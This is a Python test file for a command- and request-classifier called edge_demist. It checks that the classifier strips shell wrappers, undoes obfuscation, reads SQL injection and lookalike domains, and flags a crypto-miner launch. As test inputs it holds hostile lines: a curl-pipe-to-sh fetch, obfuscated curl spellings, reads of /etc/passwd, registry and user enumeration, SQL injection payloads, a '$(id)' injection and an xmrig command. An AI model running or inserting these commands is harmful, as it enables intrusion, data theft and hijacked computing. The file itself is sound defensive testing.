"""Second looks: what a string says without what stands around it, and that they count only where they alarm."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edge_demist import EdgeDemist
from edge_demist.text.bare_commands import core, plainest
from edge_demist.text.looks import KINDS, LEAST_BYTES, MOST_LOOKS, is_wrapped, looks

LINE = "curl -s http://198.51.100.7/x.sh | sh"


@pytest.mark.parametrize(
    "wrapped",
    [
        "sudo -n -E {}",
        "doas {}",
        "nohup {} >/dev/null 2>&1 &",
        "timeout -k 5 30s {}",
        "nice -n 19 ionice -c 3 {}",
        "env -i PATH=/bin {}",
        "sudo timeout 5 env A=1 {}",
        "sh -c '{}'",
        "busybox sh -c '{}'",
        "wsl.exe -e bash -c '{}'",
        'cmd.exe /s /c "{}"',
        "runuser -u root -- sh -c '{}'",
        "source <(echo '{}')",
        ". /dev/stdin <<< '{}'",
        "if true; then {}; fi",
        "for i in 1; do {}; done",
    ],
)
def test_wrappers_come_off(wrapped):
    readings = looks(wrapped.format(LINE).encode(), KINDS["command"])
    assert LINE.encode() in readings or any(LINE.encode() in one and len(one) < len(wrapped) + len(LINE) - 6 for one in readings)


@pytest.mark.parametrize(
    ("line", "plain"),
    [
        ("c${x}url -s", "curl -s"),
        ("c$(true)url -s", "curl -s"),
        ("$(command -v curl) -s", "curl -s"),
        ("${zz:-curl} -s", "curl -s"),
        ("p=cuxrl;${p/X/} -s", "curl -s"),
        ("$(printf '\\143\\165\\162\\154') -s", "curl -s"),
        ("/usr/b?n/c?rl -s", "curl -s"),
        ("cat /etc/pass*", "cat /etc/passwd"),
        ('"/set" x', "/set x"),
        ("a | command nc b", "a | nc b"),
        ("c:\\a\\b.exe", "c:\\a\\b.exe"),
        ("C:\\Windows\\SysWOW64\\reg.exe save", "reg.exe save"),
        ("%windir%\\system32\\wbem\\wmic.exe os & c:\\windows\\system32\\net user", "wmic.exe os & net user"),
        ("c:\\windows\\temp\\net.exe user", "c:\\windows\\temp\\net.exe user"),
        ("ls *.log", "ls *.log"),
    ],
)
def test_words_as_a_shell_puts_them_together(line, plain):
    assert plainest(line) == plain


def test_requests_and_addresses():
    request = looks(b"/find?q=red green blue 1' or 'k'='k' --&n=2", KINDS["request"])
    assert request == [b"/item?id=1' or 'k'='k' --"]
    assert b"/item?id=3 and sleep(8)" in looks(b'{"a": 1, "b": "3 and sleep(8)", "c": "d"}', KINDS["request"])
    assert looks(b"/find?q=red+shoes&n=2", KINDS["request"]) == []
    address = looks(b"www.login.example.com/a.php?x=1#y", KINDS["page"])
    assert address[0] == b"example.com/a.php" and b"www.login.example.com/a.php" in address
    assert looks(b"example.com/a", KINDS["page"]) == []
    assert b"example.com/a.php" in looks(b"xn--exmple-4nf.com/a.php", KINDS["page"])


@pytest.mark.parametrize(
    "value",
    [
        "${DD_UUID}",
        "[CACHEBUSTER]",
        "%%SITE%%",
        "{gdpr_consent}",
        "{{user.id}}",
        "#{id_of}",
        "$UID",
        "${US_PRIVACY",
        "<na_id>",
        "<user_id2>",
    ],
)
def test_a_value_that_somebody_else_fills_in_is_not_read_alone(value):
    request = f"/sync?redir=https://ads.example/?id={value}&name=two&more=1"
    assert not any(value.strip("}").lower() in one.decode().lower() for one in looks(request.encode(), KINDS["request"]))
    assert any(b"$(id" in one for one in looks(b"/sync?a=$(id)&name=two", KINDS["request"]))


def test_wrapped_lines_pass_stage_one():
    assert is_wrapped(b"sudo ls", KINDS["command"]) and not is_wrapped(b"ls sudo", KINDS["command"])
    assert not is_wrapped(b"sudo ls", KINDS["page"]) and not is_wrapped(b"sudo ls", None)


@given(st.text(max_size=200), st.sampled_from(sorted(KINDS)))
def test_readings_are_few_and_no_longer(text, normalizer):
    raw = text.encode("utf-8", "surrogatepass")
    found = looks(raw, KINDS[normalizer])
    assert len(found) <= MOST_LOOKS and raw not in found
    assert all(LEAST_BYTES <= len(one) <= 3 * len(raw) + 16 for one in found)


@pytest.mark.parametrize(
    "piece",
    ["sudo ", "sh -c '", "(", "$(", "a=b ", "${x", "''", "/???", "\\143", "env -i ", "if a==b ", "for i in 1; do ", '{"a":"', "-x "],
)
def test_linear_time(piece):
    """A quadratic pattern would take minutes here, beyond the time limit of a test run."""
    text = piece * (65_536 // len(piece))
    assert len(core(text)) <= len(text) and len(plainest(text)) <= len(text)


@pytest.mark.parametrize("piece", ["&&", "& ", ";", ">&", "2>&1 ", "; true", " /dev/null"])
def test_linear_time_of_what_ends_as_nothing_does(piece):
    """What comes off the end was looked for from every place to every other: a line of 1,000 ``&`` took seven seconds."""
    text = piece * (16_384 // len(piece)) + "x"
    assert len(core(text)) <= len(text)


def test_a_second_look_counts_only_where_it_alarms():
    with EdgeDemist.load() as model:
        attack, harmless = (
            "sudo ./xmrig -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ -p x --donate-level 1",
            "sudo systemctl restart nginx",
        )
        found, calm = model.classify([attack, harmless], task="cmdline")
        assert found.alarm and not calm.alarm and calm.window is None
        assert model.classify(attack, task="cmdline") == [found]
        assert model.classify(attack, task="cmdline", screen=True)[0].alarm
